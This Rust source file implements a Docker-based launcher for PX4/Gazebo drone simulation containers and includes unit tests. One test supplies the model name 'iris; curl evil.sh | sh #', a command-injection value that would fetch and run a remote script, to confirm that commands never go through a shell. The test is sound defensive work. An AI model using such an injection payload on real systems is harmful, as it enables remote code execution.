// Copyright (c) 2026 100monkeys.ai
// SPDX-License-Identifier: AGPL-3.0
//! # Docker Instance Launcher
//!
//! `InstanceLauncher` implementation that runs each simulated vehicle as a
//! Docker container through `bollard`.
//!
//! Containers are named `px4_<name>_<id8>`, run
//! `make px4_sitl gazebo_<model>` (exec form, no shell) inside the
//! simulation image and are
//! created with `auto_remove`, so a stopped container disappears on its own.
//! A container id that no longer resolves is therefore treated as already
//! terminated.

use async_trait::async_trait;
use bollard::errors::Error as DockerError;
use bollard::models::{ContainerCreateBody, ContainerStateStatusEnum, HostConfig, PortBinding};
use bollard::query_parameters::{
    CreateContainerOptionsBuilder, CreateImageOptionsBuilder, InspectContainerOptions,
    RemoveContainerOptionsBuilder, StartContainerOptions, StopContainerOptionsBuilder,
};
use bollard::Docker;
use futures::StreamExt;
use std::collections::HashMap;
use std::time::Duration;
use tracing::{debug, info, warn};

use crate::domain::instance::ProcessHandle;
use crate::domain::launcher::{InstanceLauncher, LaunchSpec, LauncherError};
use crate::domain::node_config::LauncherConfig;

const X11_SOCKET: &str = "/tmp/.X11-unix";

pub struct DockerLauncher {
    docker: Docker,
    config: LauncherConfig,
}

impl DockerLauncher {
    pub fn new(config: LauncherConfig) -> Result<Self, LauncherError> {
        let docker = if let Some(path) = &config.docker_socket_path {
            #[cfg(unix)]
            let result = Docker::connect_with_unix(path, 120, bollard::API_DEFAULT_VERSION);

            #[cfg(windows)]
            let result = Docker::connect_with_named_pipe(path, 120, bollard::API_DEFAULT_VERSION);

            result.map_err(|e| {
                LauncherError::Unavailable(format!(
                    "Failed to connect to Docker at {}: {}\n\n\
                     Ensure Docker is running and the socket path is correct.",
                    path, e
                ))
            })?
        } else {
            Docker::connect_with_local_defaults().map_err(|e| {
                LauncherError::Unavailable(format!(
                    "Failed to connect to Docker: {}\n\n\
                     Check that the daemon is running (docker ps) and that the\n\
                     current user can access the Docker socket.",
                    e
                ))
            })?
        };

        Ok(Self { docker, config })
    }

    /// Verify the Docker daemon is accessible
    pub async fn healthcheck(&self) -> Result<(), LauncherError> {
        self.docker.ping().await.map_err(|e| {
            LauncherError::Unavailable(format!(
                "Cannot connect to Docker daemon: {}\n\nVerify with: docker ps",
                e
            ))
        })?;
        Ok(())
    }

    pub fn container_name(spec: &LaunchSpec) -> String {
        format!("px4_{}_{}", spec.name, spec.instance_id.short())
    }

    /// Exec-form command; the PX4 variables travel in the container env.
    pub fn command(spec: &LaunchSpec) -> Vec<String> {
        vec![
            "make".to_string(),
            "px4_sitl".to_string(),
            format!("gazebo_{}", spec.model),
        ]
    }

    fn host_config(&self, spec: &LaunchSpec) -> HostConfig {
        let mut host_config = HostConfig {
            network_mode: Some(self.config.network_mode.clone()),
            auto_remove: Some(true),
            ..Default::default()
        };

        if self.config.mount_x11 {
            host_config.binds = Some(vec![format!("{X11_SOCKET}:{X11_SOCKET}:ro")]);
        }

        // host networking shares the port namespace; anything else needs an explicit binding
        if self.config.network_mode != "host" {
            let binding = PortBinding {
                host_ip: None,
                host_port: Some(spec.udp_port.to_string()),
            };
            host_config.port_bindings = Some(HashMap::from([(
                format!("{}/udp", spec.udp_port),
                Some(vec![binding]),
            )]));
        }

        host_config
    }

    async fn ensure_image(&self) -> Result<(), LauncherError> {
        let image = &self.config.image;
        if self.docker.inspect_image(image).await.is_ok() {
            return Ok(());
        }
        if !self.config.autopull {
            return Err(LauncherError::LaunchFailed(format!(
                "Image {} not found locally and autopull is disabled",
                image
            )));
        }

        info!(image = %image, "Image not found locally, pulling");
        let options = CreateImageOptionsBuilder::default().from_image(image).build();
        let mut stream = self.docker.create_image(Some(options), None, None);
        while let Some(result) = stream.next().await {
            if let Err(e) = result {
                return Err(LauncherError::LaunchFailed(format!(
                    "Failed to pull image {}: {}\n\nTry manually: docker pull {}",
                    image, e, image
                )));
            }
        }
        info!(image = %image, "Pulled image");
        Ok(())
    }
}

fn is_not_found(err: &DockerError) -> bool {
    matches!(err, DockerError::DockerResponseServerError { status_code: 404, .. })
}

#[async_trait]
impl InstanceLauncher for DockerLauncher {
    async fn launch(&self, spec: &LaunchSpec) -> Result<ProcessHandle, LauncherError> {
        self.ensure_image().await?;

        let name = Self::container_name(spec);
        let options = CreateContainerOptionsBuilder::default().name(&name).build();

        let mut env = spec.env_vars();
        if self.config.mount_x11 {
            if let Ok(display) = std::env::var("DISPLAY") {
                env.push(format!("DISPLAY={display}"));
            }
        }

        let body = ContainerCreateBody {
            image: Some(self.config.image.clone()),
            cmd: Some(Self::command(spec)),
            env: Some(env),
            host_config: Some(self.host_config(spec)),
            ..Default::default()
        };

        let created = self
            .docker
            .create_container(Some(options), body)
            .await
            .map_err(|e| LauncherError::LaunchFailed(format!("Failed to create container {}: {}", name, e)))?;

        if let Err(e) = self
            .docker
            .start_container(&created.id, None::<StartContainerOptions>)
            .await
        {
            // best effort: never leave a created-but-unstarted container behind
            let remove = RemoveContainerOptionsBuilder::default().force(true).build();
            if let Err(cleanup) = self.docker.remove_container(&created.id, Some(remove)).await {
                warn!(container_id = %created.id, error = %cleanup, "Failed to remove unstarted container");
            }
            return Err(LauncherError::LaunchFailed(format!("Failed to start container {}: {}", name, e)));
        }

        info!(
            container_id = %created.id,
            container_name = %name,
            port = spec.udp_port,
            "Started simulation container"
        );
        Ok(ProcessHandle::new(created.id))
    }

    async fn terminate(&self, handle: &ProcessHandle, grace: Duration) -> Result<(), LauncherError> {
        let options = StopContainerOptionsBuilder::default()
            .t(grace.as_secs().min(i32::MAX as u64) as i32)
            .build();

        match self.docker.stop_container(handle.as_str(), Some(options)).await {
            Ok(()) => {}
            // 304: already stopped
            Err(DockerError::DockerResponseServerError { status_code: 304, .. }) => {}
            Err(e) if is_not_found(&e) => {
                debug!(container_id = %handle, "Container already gone");
                return Ok(());
            }
            Err(e) => {
                return Err(LauncherError::TerminationFailed(format!(
                    "Failed to stop container {}: {}",
                    handle, e
                )))
            }
        }

        // auto_remove usually wins this race; 404 and 409 both mean removal is done or underway
        let remove = RemoveContainerOptionsBuilder::default().force(true).build();
        match self.docker.remove_container(handle.as_str(), Some(remove)).await {
            Ok(()) => {}
            Err(e) if is_not_found(&e) => {}
            Err(DockerError::DockerResponseServerError { status_code: 409, .. }) => {}
            Err(e) => warn!(container_id = %handle, error = %e, "Stopped container could not be removed"),
        }

        info!(container_id = %handle, "Terminated simulation container");
        Ok(())
    }

    async fn is_alive(&self, handle: &ProcessHandle) -> Result<bool, LauncherError> {
        let inspect = match self
            .docker
            .inspect_container(handle.as_str(), None::<InspectContainerOptions>)
            .await
        {
            Ok(inspect) => inspect,
            Err(e) if is_not_found(&e) => return Ok(false),
            Err(e) => {
                return Err(LauncherError::Unavailable(format!(
                    "Failed to inspect container {}: {}",
                    handle, e
                )))
            }
        };

        let status = inspect.state.and_then(|s| s.status);
        Ok(matches!(
            status,
            Some(ContainerStateStatusEnum::CREATED)
                | Some(ContainerStateStatusEnum::RUNNING)
                | Some(ContainerStateStatusEnum::RESTARTING)
                | Some(ContainerStateStatusEnum::PAUSED)
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::instance::InstanceId;
    use std::collections::BTreeMap;

    fn spec() -> LaunchSpec {
        LaunchSpec {
            instance_id: InstanceId::new("3f2a9c1e-0000-4000-8000-000000000000"),
            name: "alpha".to_string(),
            model: "iris".to_string(),
            vehicle_type: "copter".to_string(),
            udp_port: 14561,
            env: BTreeMap::from([("PX4_SIM_UDP_PORT".to_string(), "14561".to_string())]),
        }
    }

    #[test]
    fn test_container_name_and_command() {
        let spec = spec();
        assert_eq!(DockerLauncher::container_name(&spec), "px4_alpha_3f2a9c1e");
        assert_eq!(DockerLauncher::command(&spec), vec!["make", "px4_sitl", "gazebo_iris"]);
        assert!(spec.env_vars().contains(&"PX4_SIM_UDP_PORT=14561".to_string()));
    }

    #[test]
    fn test_command_never_goes_through_a_shell() {
        let spec = LaunchSpec {
            model: "iris; curl evil.sh | sh #".to_string(),
            ..spec()
        };
        let cmd = DockerLauncher::command(&spec);
        assert_eq!(cmd.len(), 3);
        assert_eq!(cmd[0], "make");
        assert_eq!(cmd[2], "gazebo_iris; curl evil.sh | sh #");
    }

    #[test]
    fn test_port_binding_only_without_host_network() {
        let Ok(host) = DockerLauncher::new(LauncherConfig::default()) else {
            // no docker client could be built in this environment
            return;
        };
        let config = host.host_config(&spec());
        assert!(config.port_bindings.is_none());
        assert_eq!(config.binds, Some(vec!["/tmp/.X11-unix:/tmp/.X11-unix:ro".to_string()]));

        let bridged = DockerLauncher {
            docker: host.docker.clone(),
            config: LauncherConfig {
                network_mode: "bridge".to_string(),
                mount_x11: false,
                ..LauncherConfig::default()
            },
        };
        let config = bridged.host_config(&spec());
        let bindings = config.port_bindings.unwrap();
        let binding = bindings["14561/udp"].as_ref().unwrap();
        assert_eq!(binding[0].host_port.as_deref(), Some("14561"));
        assert!(config.binds.is_none());
    }
}
